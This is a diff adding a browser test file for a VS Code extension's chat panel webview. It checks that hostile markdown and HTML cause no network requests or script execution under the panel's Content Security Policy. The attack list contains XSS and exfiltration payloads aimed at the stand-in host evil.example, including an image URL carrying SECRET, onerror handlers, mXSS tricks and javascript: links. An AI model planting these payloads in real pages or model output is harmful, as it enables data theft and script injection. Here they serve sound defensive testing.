@@ -1,0 +1,230 @@
+/**
+ * The chat panel's page as it is built, in Chromium without VS Code: hostile text under the real Content Security Policy with every request
+ * counted, and how the page behaves under a person's hands.
+ */
+import { join } from 'node:path';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { type PanelState, type ShownAnswer, type ShownMessage, type ToHost, toHost } from '../../src/protocol/chat';
+import { panelWords } from '../../src/protocol/chatWords';
+import { PanelHarness } from '../support/PanelHarness';
+
+/** Rows of the attack list: whatever of it becomes alive asks this host for something, or sets `pwned`. */
+const sink = 'evil.example';
+const hostile = [
+  `![x](https://${sink}/?d=SECRET)`,
+  `<img src="https://${sink}/a" onerror="window.pwned=1">`,
+  `<svg><image href="https://${sink}/b"/><use href="https://${sink}/c#x"/></svg><svg/onload=window.pwned=1>`,
+  `<picture><source srcset="https://${sink}/d"><img src="https://${sink}/e"></picture>`,
+  `<video poster="https://${sink}/f" src="https://${sink}/g"></video><audio src="https://${sink}/h"></audio>`,
+  `<link rel="stylesheet" href="https://${sink}/i"><link rel="prefetch" href="https://${sink}/j">`,
+  `<style>@import "https://${sink}/k"; body{background:url(https://${sink}/l)}</style>`,
+  `<div style="background:url(https://${sink}/m)">x</div>`,
+  `<iframe src="https://${sink}/n"></iframe><object data="https://${sink}/o"></object><embed src="https://${sink}/p">`,
+  `<iframe src="data:text/html,<script>parent.pwned=1</script>"></iframe>`,
+  `<meta http-equiv="refresh" content="0;url=https://${sink}/q"><base href="https://${sink}/">`,
+  `<form action="https://${sink}/r"><button>x</button></form><a href="https://${sink}/s" ping="https://${sink}/t">x</a>`,
+  '<script>window.pwned=1</script><script src="https://evil.example/u"></script>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
+  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
+  '[a](javascript:window.pwned=1) [b](command:workbench.action.quit) [c](vscode://x/y) [d](data:text/html,x)',
+  '```mermaid\ngraph TD; A-->B; click A href "https://evil.example/v"\n```',
+  '```html\n<img src=x onerror=window.pwned=1>\n```',
+  '`<img src=x onerror=window.pwned=1>` &lt;img src=x onerror=window.pwned=1&gt;',
+].join('\n\n');
+
+const words = Object.fromEntries(panelWords.map((word) => [word, word])) as PanelState['words'];
+
+function answer(id: string, text: string, more: Partial<ShownAnswer> = {}): ShownAnswer {
+  return {
+    ...{ kind: 'answer', id, text, reasoning: '', reasoningSeconds: 0, state: 'done', notice: '', details: '' },
+    ...{ branch: { ids: [id], index: 0 }, feedback: 'none', serverTools: [], calls: [], checkpoint: 'none' },
+    ...more,
+  };
+}
+
+function question(id: string, text: string, label = 'a.ts'): ShownMessage {
+  const chips = [{ id: 'c', label, tokens: 5, canOpen: true }];
+  return { kind: 'question', id, text, chips, branch: { ids: [id], index: 0 } };
+}
+
+function state(messages: readonly ShownMessage[], more: Partial<PanelState> = {}): PanelState {
+  return {
+    ...{ conversation: 'c', title: 't', messages: [...messages], older: 0, draft: '', commands: [], history: [] },
+    status: {
+      ...{ chips: [], offers: [], search: 'none', running: null, notice: '', action: 'none' },
+      model: { label: 'glm-4.6', hint: '', sees: true },
+      context: { used: 10, total: 100, hint: 'hint' },
+    },
+    ...{ words, language: 'en' },
+    agent: { mode: 'ask', unavailable: '', todo: [], notice: '', request: null },
+    ...more,
+  };
+}
+
+describe('the page of the chat panel', () => {
+  let harness: PanelHarness;
+  const told: ToHost[] = [];
+  const last = <Method extends ToHost['method']>(method: Method) =>
+    told.findLast((message): message is Extract<ToHost, { method: Method }> => message.method === method)?.params;
+
+  beforeAll(async () => {
+    harness = await PanelHarness.open({
+      built: join(import.meta.dirname, '../../dist/webview'),
+      onMessage: (message) => void told.push(message),
+    });
+  });
+  afterAll(() => harness?.close());
+  beforeEach(async () => {
+    told.length = 0;
+    await harness.load();
+    await expect.poll(() => told[0]?.method, { timeout: 30_000 }).toBe('ready');
+  });
+
+  async function show(messages: readonly ShownMessage[], more: Partial<PanelState> = {}): Promise<void> {
+    await harness.post({ method: 'state', params: state(messages, more) });
+    await harness.painted();
+  }
+
+  const pwned = (): Promise<unknown> => harness.page.evaluate(() => (globalThis as { pwned?: unknown }).pwned);
+
+  it('makes nothing of hostile text: whole, in pieces, or out of the history', async () => {
+    // From the history: in questions, answers, thoughts, names of files and what tools brought.
+    const output = { kind: 'page', label: hostile, text: hostile, url: '', host: '' } as const;
+    const tool = { title: hostile, input: hostile, outputs: [output, { ...output, kind: 'log' as const }] };
+    await show([
+      question('q', hostile, hostile),
+      answer('a', hostile, { reasoning: hostile, notice: hostile, details: hostile, serverTools: [tool] }),
+      { kind: 'compaction', id: 'k', text: hostile, summary: hostile, isLast: true },
+    ]);
+    // While it arrives, cut anywhere.
+    await show([question('q', 'x'), answer('b', '', { state: 'running' })]);
+    for (let at = 0; at < hostile.length; at += 7) {
+      await harness.post({ method: 'delta', params: { id: 'b', text: hostile.slice(at, at + 7), reasoning: '' } });
+    }
+    await harness.post({ method: 'message', params: answer('b', hostile) });
+    await harness.painted();
+    expect(await pwned()).toBeUndefined();
+    expect(harness.requests).toEqual([]);
+    // Nothing was even refused: no element that could ask came into being.
+    expect(harness.refused).toEqual([]);
+    const alive =
+      'script:not([nonce]), iframe, object, embed, img, video, audio, form, style:not(:empty), link:not([rel="stylesheet"]), base, meta[http-equiv="refresh"], svg image, a[href]';
+    expect(await harness.page.locator(`body :is(${alive})`).count()).toBe(0);
+    expect(await harness.page.locator('.code-block[data-language="mermaid"]').first().textContent()).toContain(
+      'graph TD',
+    );
+  });
+
+  it('shows a picture of the web only after the extension sent it', async () => {
+    await show([answer('a', '![chart](https://evil.example/x.png)')]);
+    await harness.page.locator('.remote-image').click();
+    await expect.poll(() => last('loadImage'), { timeout: 30_000 }).toEqual({ url: 'https://evil.example/x.png' });
+    expect(harness.requests).toEqual([]);
+    const data =
+      'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
+    await harness.post({ method: 'image', params: { url: 'https://evil.example/x.png', data } });
+    await harness.page.locator('img.picture').waitFor();
+    expect(
+      await harness.page.locator('img.picture').evaluate((image) => (image as HTMLImageElement).naturalWidth),
+    ).toBe(1);
+  });
+
+  it('says whatever it says in the protocol', async () => {
+    await show([question('q', 'Hi'), answer('a', '```ts a.ts\nlet a;\n```\n\n[b](src/b.ts#L3)')]);
+    const page = harness.page;
+    for (const name of ['copy', 'apply', 'insert', 'newFile', 'wrap', 'copyAnswer', 'good', 'regenerate']) {
+      await page.locator('.answer').getByRole('button', { name, exact: true }).first().click();
+    }
+    await page.locator('.reason').fill('It works');
+    await page.locator('.reason').press('Enter');
+    await page.locator('.file-link').last().click();
+    await page.locator('.composer-text').fill('/');
+    await page.locator('.composer-text').fill('@x');
+    await expect.poll(() => last('openPlace'), { timeout: 30_000 }).toEqual({ path: 'src/b.ts', line: 3 });
+    await expect.poll(() => last('mention'), { timeout: 30_000 }).toEqual({ query: 'x' });
+    expect(last('useCode')).toMatchObject({ action: 'newFile', answer: 'a', code: 'let a;\n', path: 'a.ts' });
+    expect(harness.strange).toEqual([]);
+    expect(told.every(({ method }) => method in toHost)).toBe(true);
+  });
+
+  it('makes pictures smaller that are pasted, and takes texts', async () => {
+    await show([]);
+    await harness.page.evaluate(async () => {
+      const canvas = new OffscreenCanvas(4000, 1000);
+      canvas.getContext('2d')?.fillRect(0, 0, 4000, 500);
+      const picture = new File([await canvas.convertToBlob()], 'wide.png', { type: 'image/png' });
+      const clipboardData = new DataTransfer();
+      clipboardData.items.add(picture);
+      clipboardData.items.add(new File(['let a;'], 'a.ts', { type: 'text/plain' }));
+      document
+        .querySelector('.composer-text')
+        ?.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }));
+    });
+    await expect.poll(() => last('attachText'), { timeout: 30_000 }).toEqual({ name: 'a.ts', text: 'let a;' });
+    const attached = last('attachImage');
+    const data = attached !== undefined && 'data' in attached ? attached.data : '';
+    const size = await harness.page.evaluate(async (address) => {
+      const image = new Image();
+      image.src = address;
+      await image.decode();
+      return [image.naturalWidth, image.naturalHeight];
+    }, data);
+    expect(size).toEqual([1568, 392]);
+  });
+
+  it('stays at the end until the person scrolls up, and goes back by a button', async () => {
+    const long = Array.from({ length: 60 }, (_, n) => `Paragraph ${n}.`).join('\n\n');
+    await show([question('q', 'x'), answer('a', '', { state: 'running' })]);
+    const scroller = harness.page.locator('.scroller');
+    const distance = (): Promise<number> =>
+      scroller.evaluate((one) => one.scrollHeight - one.scrollTop - one.clientHeight);
+    const add = (text: string): Promise<void> =>
+      harness.post({ method: 'delta', params: { id: 'a', text, reasoning: '' } });
+    await add(long);
+    await expect.poll(distance, { timeout: 30_000 }).toBeLessThan(30);
+    await scroller.hover();
+    await harness.page.mouse.wheel(0, -300);
+    await expect.poll(distance, { timeout: 30_000 }).toBeGreaterThan(100);
+    const top = await scroller.evaluate((one) => one.scrollTop);
+    await add(long);
+    await harness.painted();
+    expect(await scroller.evaluate((one) => one.scrollTop)).toBe(top);
+    await harness.page.locator('.newest').click();
+    await expect.poll(distance, { timeout: 30_000 }).toBeLessThan(30);
+  });
+
+  it('draws all of a long conversation in order, its end first', async () => {
+    const messages = Array.from({ length: 20 }, (_, n) => [
+      question(`q${n}`, `Q${n}`),
+      answer(`a${n}`, `A${n}`),
+    ]).flat();
+    await show(messages, { older: 3 });
+    await harness.page.locator('[data-id="q0"]').waitFor({ state: 'attached' });
+    const ids = await harness.page
+      .locator('.message')
+      .evaluateAll((all) => all.map((one) => one.getAttribute('data-id')));
+    expect(ids).toEqual(messages.map(({ id }) => id));
+    await harness.page.getByRole('button', { name: 'older' }).waitFor();
+    // Another state in the middle of it loses and doubles nothing.
+    await show([], { conversation: 'other' });
+    await harness.post({ method: 'state', params: state(messages) });
+    await harness.post({ method: 'state', params: state(messages) });
+    await harness.page.locator('[data-id="q0"]').waitFor({ state: 'attached' });
+    expect(await harness.page.locator('.message').count()).toBe(40);
+  });
+
+  it('tells those who cannot see that an answer began and ended, and not each word', async () => {
+    await show([question('q', 'x'), answer('a', '', { state: 'running' })], {
+      status: { ...state([]).status, running: 'a' },
+    });
+    expect(await harness.page.locator('[role="log"]').getAttribute('aria-busy')).toBe('true');
+    const announcer = harness.page.locator('.conversation > [role="status"]');
+    expect(await announcer.textContent()).toBe('answering');
+    await harness.post({ method: 'delta', params: { id: 'a', text: 'Hello', reasoning: '' } });
+    await harness.painted();
+    expect(await announcer.textContent()).toBe('answering');
+    await harness.post({ method: 'status', params: state([]).status });
+    await harness.painted();
+    expect(await announcer.textContent()).toBe('answerDone');
+  });
+});
